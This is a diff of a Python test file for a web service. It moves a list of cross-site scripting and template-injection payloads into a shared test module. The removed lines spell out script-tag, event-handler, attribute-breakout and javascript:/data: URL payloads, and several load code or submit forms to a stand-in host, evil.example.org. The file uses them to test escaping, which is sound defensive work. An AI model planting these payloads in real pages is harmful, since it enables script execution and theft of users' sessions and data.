@@ -17,70 +17,12 @@ from service.store import Store
 from service.web.site.errands import Errands
 from tests import factories
 from tests.api_office import TOPIC, Office, fill
+from tests.hostile_texts import ADDRESSES, ELEMENTS, HANDLERS, PAYLOADS
 from tests.papers import NOW, Archive, paper
 from tests.site_visits import SAMPLES, Visits, address, harm, routes
 
 if TYPE_CHECKING:
     from tests.web_site import Site
-
-_RUN = "alert(1)"
-_ELEMENTS = [
-    f"<script>{_RUN}</script>",
-    f"</title><script>{_RUN}</script>",
-    f"</textarea><script>{_RUN}</script>",
-    f"</style><script>{_RUN}</script>",
-    f"<!--><script>{_RUN}</script>",
-    f"--><script>{_RUN}</script>",
-    f"<![CDATA[<script>{_RUN}</script>]]>",
-    f"<ScRiPt>{_RUN}</sCrIpT>",
-    f"<script\x0c>{_RUN}</script>",
-    "<script src=https://evil.example.org/x.js></script>",
-    "<script src=//evil.example.org/x.js>",
-    f"<<script>{_RUN}//<</script>",
-    "<base href=https://evil.example.org/>",
-    "<link rel=stylesheet href=//evil.example.org/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example.org'>",
-    "<style>@import '//evil.example.org/x.css';</style>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    f'<iframe srcdoc="<script>{_RUN}</script>">',
-    "<iframe src=javascript:alert(1)>",
-    "<form action=https://evil.example.org><button>",
-    f"<svg><script>{_RUN}</script></svg>",
-    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-]
-_HANDLERS = [
-    f"<{tag} {event}={_RUN}>"
-    for tag, event in (
-        ("img src=x", "onerror"), ("svg/onload=x", "onload"), ("body", "onload"),
-        ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("video src=x", "onerror"),
-        ("audio src=x", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart"),
-        ("div", "onpointerover"), ("a href=#", "onclick"), ("p style=animation-name:x", "onanimationstart"),
-        ("textarea autofocus", "onfocus"), ("iframe", "onload"), ("object data=x", "onerror"),
-        ("button popovertarget=x", "onbeforetoggle"), ("form", "onsubmit"), ("image src=x", "onerror"),
-    )
-]  # fmt: skip
-_BREAKS = [
-    f"{quote}{middle}{event}={_RUN} x={quote}"
-    for quote in ('"', "'", "`", "")
-    for middle in (" ", "/", "\t", "\n", ">")
-    for event in ("onmouseover", "autofocus onfocus")
-]
-_ADDRESSES = [
-    f"{scheme}{_RUN}"
-    for scheme in (
-        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
-        "\x01javascript:", "vbscript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:",
-        "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4", "jar:javascript:",
-        "//evil.example.org/", "\\\\evil.example.org\\", "blob:https://x/",
-    )
-]  # fmt: skip
-_TEMPLATES = ["{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{''.__class__}}"]
-PAYLOADS = [*_ELEMENTS, *_HANDLERS, *_BREAKS, *_ADDRESSES, *_TEMPLATES]
 
 
 @pytest.fixture
@@ -95,7 +37,7 @@ def hostile(site: Site, monkeypatch: pytest.MonkeyPatch) -> Visits:
             abstract=f"Fibroblasts {text} hold neutrophils back.",
             authors=(Author(text, text), Author(collective=text)),
             venue=text,
-            url=text if text in _ADDRESSES else f"https://x.example.org/{text}",
+            url=text if text in ADDRESSES else f"https://x.example.org/{text}",
             pdf_url=text,
         )
         for at, text in enumerate(PAYLOADS)
@@ -237,7 +179,7 @@ def test_what_is_harmful_is_seen() -> None:
     """The tests above can fail."""
     frame = '<script src="/static/a/app.js" defer></script><link rel="stylesheet" href="/static/a/b.css">'
     assert harm(f'{frame}<a href="/x">x</a><a href="https://x.org">y</a>') == []
-    for text in (*_ELEMENTS, *_HANDLERS):
+    for text in (*ELEMENTS, *HANDLERS):
         assert harm(f"<p>{text}</p>"), text
-    for text in _ADDRESSES[:4]:
+    for text in ADDRESSES[:4]:
         assert harm(f'<a href="{text}">x</a>'), text
